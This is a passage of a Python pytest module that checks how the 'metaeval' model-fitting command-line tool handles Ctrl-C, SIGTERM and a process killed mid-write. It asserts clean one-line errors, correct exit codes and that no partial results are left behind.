    csv = small_csv(tmp_path / "s.csv")
    out = tmp_path / "out"
    args = ["fit", "--csv", csv, "--out", out, *TINY, "--format", "json"]
    first = cli(args, tmp_path, timeout=300)
    assert first.returncode == 0, first.stderr
    marker = tmp_path / "paused"
    env = {**os.environ, "PYTHONPATH": str(REPO), "METAEVAL_TEST_PAUSE_AT": "rename:posterior.nc", "METAEVAL_TEST_PAUSE_MARKER": str(marker)}
    proc = subprocess.Popen([sys.executable, "-m", "metaeval.cli", *map(str, args), "--refit"], cwd=tmp_path, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 300
    while not marker.exists():
        assert proc.poll() is None and time.monotonic() < deadline, proc.stderr.read() if proc.stderr else ""
        time.sleep(0.05)
    proc.kill()
    proc.communicate()
    again = cli(["summary", *map(str, args[1:])], tmp_path, timeout=120)
    assert again.returncode == 0, again.stderr
    assert json.loads(again.stdout) == json.loads(first.stdout)


@pytest.mark.subprocess
def test_ctrl_c_while_sampling_is_130_not_a_claim_that_the_model_cannot_be_sampled(tmp_path, capsys, monkeypatch):
    """nutpie returns the draws so far on KeyboardInterrupt: the fit said 'non-finite draws ... cannot be sampled', exit 1."""
    import nutpie
    import xarray as xr

    def sampler_that_swallows_ctrl_c(*args, **kwargs):
        try:
            os.kill(os.getpid(), signal.SIGINT)
            time.sleep(5)
        except BaseException:  # noqa: BLE001 - what a library may do: keep what it has
            pass
        return xr.DataTree.from_dict({"posterior": xr.Dataset({"mu": (("chain", "draw"), np.full((1, 3), np.nan))})})

    monkeypatch.setattr(nutpie, "sample", sampler_that_swallows_ctrl_c)
    out = tmp_path / "out"
    rc, stdout, err = run(["fit", "--csv", small_csv(tmp_path / "s.csv"), "--out", out, *TINY], capsys)
    assert rc == 130 and err.splitlines()[-1] == "error: interrupted (Ctrl-C): nothing new was kept; earlier results are as they were", err
    assert "Traceback" not in err and err.count("error:") == 1
    assert stdout == "" and not (out / "fits").exists() or not [p for p in (out / "fits").iterdir() if not p.name.startswith(".")]
    from metaeval import interrupts

    # the signal belonged to that command: later calls in this process (a notebook's, another test's fixture) still run
    assert interrupts.received() is None
    interrupts.check()


def _wait_for_handlers(pid: int, timeout: float = 60) -> None:
    """Wait until ``metaeval``'s main has installed its signal handlers (SIGTERM shows as caught in /proc).

    Before that the interpreter itself is starting (a few tenths of a second), and a signal then gets Python's
    default treatment; the README says so. Waiting keeps the test about metaeval, and its timing out of it."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        with contextlib.suppress(OSError):
            caught = next(line for line in Path(f"/proc/{pid}/status").read_text().splitlines() if line.startswith("SigCgt:"))
            if int(caught.split()[1], 16) & (1 << (signal.SIGTERM - 1)):
                return
        time.sleep(0.01)
    pytest.fail("the command never installed its signal handlers")


def _signal_at(args: list[str], reached, signum: int, cwd: Path, env: dict) -> tuple[int, str]:
    """Start ``metaeval ARGS``, send ``signum`` at the first stderr line for which ``reached(line)`` holds (None: as
    soon as the handlers are installed), and return the exit status and everything printed on stderr."""
    proc = subprocess.Popen([sys.executable, "-m", "metaeval.cli", *args], cwd=cwd, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                            text=True, env={**os.environ, "PYTHONPATH": str(REPO), **env})
    seen = []
    if reached is None:
        _wait_for_handlers(proc.pid)
    else:
        for line in proc.stderr:
            seen.append(line)
            if reached(line):
                break
        else:
            proc.wait(timeout=120)
            pytest.fail(f"the phase was never reached (exit {proc.returncode}): {''.join(seen)}")
    proc.send_signal(signum)
    try:
        rest = proc.stderr.read()
        proc.wait(timeout=120)
    except subprocess.TimeoutExpired:
        proc.kill()
        pytest.fail(f"still running 120 s after the signal: {''.join(seen)}")
    return proc.returncode, "".join(seen) + rest


@pytest.mark.subprocess
@pytest.mark.parametrize("signum, status", [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
def test_a_signal_at_any_phase_of_a_fit_is_one_line(signum, status, tmp_path):
    """10 of 12 SIGINTs during import, compile or write printed a traceback; one was swallowed (exit 0).

    The signal is sent when the fit says it has reached a phase (stderr is not a terminal, so it prints them),
    not after a delay that a faster machine outruns: starting (its handlers just installed), compiling (a cold
    compile cache), sampling, part-way through the draws, and writing. Only the write may end before the signal
    lands: then the fit is whole (exit 0), or the error says which result sets were written in full."""
    from metaeval import compile_cache

    fit = ["fit", "--csv", str(small_csv(tmp_path / "s.csv")), "--chains", "2", "--draws", "20000", "--tune", "1000"]
    phases = {
        "starting": (None, {}),
        "compiling": (lambda line: line.strip() == f"note: {compile_cache.COLD_NOTE}", {compile_cache.ENV_VAR: str(tmp_path / "cold")}),
        "sampling": (lambda line: line.startswith("sampling: 2 chains"), {}),
        "drawing": (lambda line: re.match(r"sampling: \d+ of \d+ draws", line), {}),
        "writing": (lambda line: line.startswith("writing the fit"), {}),
    }
    for phase, (reached, env) in phases.items():
        out = tmp_path / phase
        rc, err = _signal_at([*fit, "--out", str(out)], reached, signum, tmp_path, env)
        lines = [line for line in err.strip().splitlines() if not line.startswith(CHATTER)]
        assert "Traceback" not in err and len(lines) <= 1, (phase, err)
        if phase == "writing" and rc == 0:
            continue  # it ended before the signal arrived: a whole result (the kill-point tests check writes)
        assert rc == status and len(lines) == 1 and lines[0].startswith("error: "), (phase, err)
        kept = [p for p in (out / "fits").glob("*") if not p.name.startswith(".")] if out.exists() else []
        assert not kept or "had been written in full" in lines[0], (phase, err)
